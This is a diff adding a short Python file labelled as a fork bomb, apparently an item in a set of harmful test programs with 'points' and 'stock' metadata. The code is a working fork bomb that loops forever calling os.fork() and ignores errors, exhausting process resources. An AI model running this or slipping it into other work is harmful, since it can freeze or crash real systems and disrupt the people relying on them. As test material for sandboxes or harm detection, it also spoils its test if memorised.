@@ -1,0 +1,10 @@
+# tries: a fork bomb
+# points: 0
+# stock: harm
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
